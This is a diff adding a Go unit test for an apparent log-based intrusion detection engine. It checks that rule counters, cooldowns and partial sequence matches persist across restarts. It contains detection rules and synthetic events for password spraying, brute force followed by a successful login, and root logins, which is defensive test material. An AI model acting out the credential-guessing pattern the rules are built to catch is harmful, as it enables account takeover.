+		t.Errorf("alerts = %+v, want state dropped with the changed rule", got)
+	}
+}
+
+// ─── State ────────────────────────────────────────────────────────────────────
+
+func TestPersistState(t *testing.T) {
+	db, err := sqlitestore.Open(filepath.Join(t.TempDir(), "state.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	insert := func(id string, threshold, window int, rc RuleCondition) {
+		t.Helper()
+		cond, _ := json.Marshal(rc)
+		if err := db.InsertRule(&sqlitestore.RuleRecord{ID: id, Name: id, Severity: "HIGH", Enabled: true,
+			Condition: string(cond), Threshold: threshold, Window: window, CreatedAt: time.Now(), UpdatedAt: time.Now()}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	insert("agg-spray-users", 4, 600, RuleCondition{
+		Condition: Condition{Field: "message", Operator: "contains", Value: "Failed password"},
+		Aggregate: &Aggregate{GroupBy: []string{"src_ip"}, Function: AggDistinctCount, Field: "user"},
+	})
+	insert("root-login-any", 1, 0, RuleCondition{Condition: Condition{Field: "message", Operator: "contains", Value: "session opened for root"}})
+	insert(bruteForceThenSuccess.ID, 1, 0, RuleCondition{Sequence: bruteForceThenSuccess.Sequence})
+
+	start := func() (*Engine, *alertLog) {
+		t.Helper()
+		log := &alertLog{}
+		e := NewEngine(log.handle, nil)
+		if err := e.LoadRules(db); err != nil {
+			t.Fatal(err)
+		}
+		if err := e.PersistState(db); err != nil {
+			t.Fatal(err)
+		}
+		return e, log
+	}
+	ctx := context.Background()
+	ev := func(user, msg string) *models.Event {
+		return &models.Event{ID: uuid.NewString(), Host: "bastion", User: user, Message: msg, Timestamp: time.Now(),
+			Fields: map[string]interface{}{"src_ip": "10.0.0.9"}}
+	}
+
+	e, log := start()
+	e.ProcessEvent(ctx, ev("alice", "Failed password for alice"))
+	e.ProcessEvent(ctx, ev("bob", "Failed password for bob"))
+	for i := 0; i < 5; i++ {
+		e.ProcessEvent(ctx, ev("carol", "Failed password for carol"))
+	}
+	e.ProcessEvent(ctx, ev("root", "session opened for root"))
+	if got := log.take(); len(got) != 1 || got[0].RuleID != "root-login-any" {
+		t.Fatalf("alerts = %+v, want the root login only", got)
+	}
+	// Three users are under the spraying threshold; carol's failures
+	// complete the first step of the sequence, alice and bob only start it.
+	state := e.State("")
+	kinds := map[string]int{}
+	for _, s := range state {
+		kinds[s.Kind]++
+	}
+	if kinds[StateThreshold] != 1 || kinds[StateCooldown] != 1 || kinds[StateSequence] != 3 {
+		t.Fatalf("state = %+v", state)
+	}
+	if err := e.Checkpoint(); err != nil {
+		t.Fatal(err)
+	}
+
+	// After a restart the counters, cooldown and partial matches carry on.
+	e, log = start()
+	if got := e.State(""); !slices.EqualFunc(got, state, func(a, b StateEntry) bool {
+		return a.RuleID == b.RuleID && a.Kind == b.Kind && slices.Equal(a.Key, b.Key) && a.Detail == b.Detail
+	}) {
+		t.Fatalf("restored state = %+v, want %+v", got, state)
+	}
+	e.ProcessEvent(ctx, ev("dave", "Failed password for dave"))
+	e.ProcessEvent(ctx, ev("root", "session opened for root"))
+	e.ProcessEvent(ctx, ev("carol", "Accepted password for carol"))
+	got := log.take()
+	slices.SortFunc(got, func(a, b *models.Alert) int { return strings.Compare(a.RuleID, b.RuleID) })
+	if len(got) != 2 || got[0].RuleID != "agg-spray-users" || got[1].RuleID != bruteForceThenSuccess.ID || len(got[1].EventIDs) != 6 {
+		t.Fatalf("alerts after restart = %+v, want spraying and the sequence, the root login suppressed", got)
+	}
+
+	// Clearing a rule's state removes it from the store too.
+	if err := e.Checkpoint(); err != nil {
+		t.Fatal(err)
+	}
+	if n, err := e.ClearState("root-login-any"); err != nil || n != 1 {
+		t.Fatalf("ClearState = %d, %v", n, err)
+	}
+	e, log = start()
+	e.ProcessEvent(ctx, ev("root", "session opened for root"))
+	if got := log.take(); len(got) != 1 {
+		t.Errorf("alerts = %+v, want the root login once its cooldown is cleared", got)
+	}
+	if s := e.State(bruteForceThenSuccess.ID); len(s) != 3 || s[2].Key[0] != "dave" {
+		t.Errorf("sequence state = %+v, want alice's, bob's and dave's", s)
+	}
+}